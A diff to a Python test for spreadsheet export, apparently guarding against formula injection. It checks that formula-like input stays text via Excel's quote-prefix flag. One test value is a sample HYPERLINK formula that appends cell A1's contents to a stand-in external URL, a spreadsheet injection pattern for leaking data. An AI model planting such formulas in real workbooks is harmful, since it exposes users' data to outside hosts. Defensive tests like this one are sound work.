@@ -199,8 +199,11 @@ def test_one_value_per_cell_numbers_as_numbers(workbook):
 def test_refs_and_input_text_stay_text_and_dates_are_dates(workbook):
     rows = _table_rows(workbook["Table 3"])
     assert [r[0] for r in rows[1:]] == ["5.10", "5.1"], "refs are text: 5.10 is not 5.1"
-    assert rows[1][1] == '\'=HYPERLINK("http://x.example/"&A1,"click")', "a formula from input stays text"
-    assert rows[2][1] == "'+44 1234"
+    assert rows[1][1] == '=HYPERLINK("http://x.example/"&A1,"click")', "a formula from input stays text"
+    assert rows[2][1] == "+44 1234"
+    ws3 = workbook["Table 3"]
+    top = _header_row(ws3)
+    assert ws3.cell(top + 1, 2).quotePrefix and ws3.cell(top + 2, 2).quotePrefix, "marked as text for Excel"
     assert rows[1][2] == datetime(2024, 12, 31) and rows[2][2] == "Q3 2024/25"
     ws = workbook["Table 3"]
     assert ws.cell(_header_row(ws) + 1, 3).number_format == "d mmm yyyy"
